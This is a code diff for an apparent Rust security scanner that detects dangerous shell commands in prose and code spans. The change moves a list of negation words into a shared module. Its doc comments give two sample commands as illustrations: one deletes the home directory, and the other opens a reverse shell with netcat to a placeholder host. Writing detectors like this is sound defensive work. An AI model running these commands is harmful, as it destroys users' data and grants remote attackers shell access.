@@ -6,7 +6,7 @@
 use super::{Found, MAX_PER_COMMAND, Place, emit};
 use crate::analysis::runnable::{Code, Setting, looks_like_command, runnable_blocks};
 use crate::analysis::shell::{
-    DangerKind, Dialect, Language, Prose, dangers, downloads_in_prose, script_dangers,
+    DangerKind, Dialect, Language, NEGATIONS, Prose, dangers, downloads_in_prose, script_dangers,
 };
 use crate::diagnostics::Diagnostic;
 use crate::security::texts::Text;
@@ -86,18 +86,6 @@ pub(super) fn check<'t>(text: &'t Text<'t>, out: &mut Vec<Diagnostic>, found: &m
         emit(text, 0, Place::Told, shifted, out, found);
     }
 }
-
-/// Words that make a sentence a warning against what it names (`Never run `rm -rf ~``).
-const NEGATIONS: &[&str] = &[
-    "never",
-    "don't",
-    "do not",
-    "avoid",
-    "must not",
-    "should not",
-    "instead of",
-    "not run",
-];
 
 /// The commands a line of prose gives in code spans (`` Run `nc -e /bin/sh h 9` ``, and
 /// Claude Code's `` !`cmd` ``, run before the model reads the skill). A download run is
